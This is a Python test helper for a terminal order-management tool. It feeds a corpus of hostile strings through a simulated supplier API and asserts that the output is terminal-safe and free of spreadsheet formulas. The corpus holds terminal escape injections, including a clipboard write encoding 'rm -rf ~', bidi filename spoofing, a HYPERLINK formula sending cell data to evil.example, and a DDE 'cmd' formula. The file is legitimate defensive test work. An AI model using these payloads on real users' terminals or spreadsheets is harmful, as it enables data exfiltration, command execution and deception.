"""Hostile text, and a CJ simulator that serves it: what the hostile-corpus, property and
secrets tests share.

The corpus is what a customer or a supplier can type into a name, an address or a product
title and what would act on a merchant's terminal (markup, CSI, OSC titles and clipboard
writes, 8-bit C1 controls), reorder or hide what is shown (bidi overrides, zero-width
characters), overflow a cell (10,000 characters), or run in a spreadsheet (formulas)."""

from __future__ import annotations

import re
from dataclasses import replace
from typing import Any

from starlette.requests import Request

from ordertui.domain.models import Order
from ordertui.simulators.cj import CJSimulator

LONG = "Long " + "x" * 9_995  # 10,000 characters

#: name -> hostile text. Every entry goes into a customer name, an address line and a product
#: title of the orders the simulator serves.
CORPUS: dict[str, str] = {
    "markup": "[bold red]x[/] Mallory",
    "markup-link": "[link=http://evil.example/]click[/link] me",
    "textual-markup": "[@click=app.quit]Quit[/] $variable",
    "csi-clear": "Clear\x1b[2Jscreen",
    "csi-colour": "\x1b[31mred\x1b[0m text",
    "csi-cursor": "Up\x1b[10A\x1b[Koverwrite",
    "osc-title": "Title\x1b]0;pwned\x07 here",
    "osc-title-st": "Title\x1b]2;pwned\x1b\\ here",
    "osc52-clipboard": "Clip\x1b]52;c;cm0gLXJmIH4K\x07board",
    "osc8-link": "\x1b]8;;http://evil.example/\x1b\\innocent\x1b]8;;\x1b\\",
    "c1-csi": "Eight\x9b2Jbit",
    "c1-osc": "Eight\x9d0;pwned\x9cbit",
    "dcs": "Dcs\x1bP+q544e\x1b\\",
    "bell-backspace": "Bell\x07\x08\x08\x08gone",
    "bidi-override": "Invoice \u202egpj.exe",
    "bidi-isolates": "\u2066Isolated\u2069 \u2067rtl\u2069 \u2068first\u2069",
    "bidi-embedding": "\u202aLRE\u202c \u202bRLE\u202c \u200fRLM\u200e",
    "zero-width": "Zero\u200bwidth\u200c\u200d\u2060\ufeffjoin",
    "tag-chars": "Tags\U000e0041\U000e0042hidden",
    "line-separators": "Line\u2028sep\u2029para",
    "nul-del": "Nul\x00del\x7f",
    "formula-hyperlink": '=HYPERLINK("http://evil.example/?d="&A1,"Click me")',
    "formula-plus": "+1+1",
    "formula-minus": "-2+3",
    "formula-at": "@SUM(A1:A9)",
    "formula-tab": "\t=1+1",
    "formula-cr": "\r=1+1",
    "formula-spaces": "  =cmd|' /C calc'!A0",
    "long": LONG,
}

#: characters that must never reach a terminal from data (raw, not made visible)
RAW_CONTROLS = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u202a-\u202e\u2028\u2029"
    "\u2060-\u2064\u2066-\u206f\ufeff\U000e0000-\U000e007f]")

#: control characters no spreadsheet cell may hold (tabs and line feeds may stay)
SHEET_UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")

#: what the terminal renderer itself writes: SGR styling, cursor positioning and OSC 8 links
#: that ordertui makes (their targets are checked separately). A raw SGR from data would hide
#: among them, so the tests also look for the SGR entry of the corpus made visible ("␛[31m").
_RENDERER = re.compile(r"\x1b\[[0-9;]*[mH]|\x1b\]8;[^\x07\x1b]*(?:\x1b\\|\x07)")

#: text a spreadsheet would run if a cell began with it
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def hostile(idx: int) -> str:
    names = list(CORPUS)
    return CORPUS[names[idx % len(names)]]


class HostileCJ(CJSimulator):
    """The CJ simulator, but every order's customer name, first address line and product
    titles are the ``idx``-th corpus entry (cycling), and order details name the products
    (``productName``), as CJ's own product data would; the reasons of its disputes are
corpus entries too."""

    def _load_order(self, idx: int) -> Order:
        o = super()._load_order(idx)
        text = hostile(idx)
        o.customer = replace(o.customer, name=text,
                             address=replace(o.customer.address, line1=text, line2=""))
        o.items = [replace(i, title=text) for i in o.items]
        return o

    def _seeded_item(self, idx: int) -> dict[str, Any] | None:
        item = super()._seeded_item(idx)
        if item is not None:  # the supplier's words in the dispute thread
            item["disputeReason"] = f"Other: {hostile(idx)}"
        return item

    def order_detail(self, request: Request, body: dict[str, Any]) -> Any:
        data = super().order_detail(request, body)
        idx = self._idx(request.query_params.get("orderId"))
        for p, item in zip(data["productList"], self._order(idx).items, strict=True):
            p["productName"] = item.title
        return data


def terminal_residue(raw: str) -> str:
    """What remains of a terminal capture once the renderer's own escapes are taken out:
    any ESC, BEL, C1 or invisible character left came from data."""
    return _RENDERER.sub("", raw)


def assert_terminal_safe(raw: str, where: str) -> None:
    rest = terminal_residue(raw)
    bad = RAW_CONTROLS.search(rest)
    assert bad is None, (f"{where}: raw {bad.group(0)!r} reached the terminal near "
                         f"{rest[max(bad.start() - 40, 0): bad.end() + 40]!r}")
    for target in re.findall(r"\x1b\]8;[^;]*;([^\x07\x1b]*)", raw):
        assert "evil.example" not in target, f"{where}: a link from data: {target!r}"


def formula_cell(value: Any) -> bool:
    """True when a spreadsheet would evaluate ``value`` (text that starts like a formula and
    is not a plain number)."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return False
    try:
        float(value)
    except ValueError:
        return True
    return False
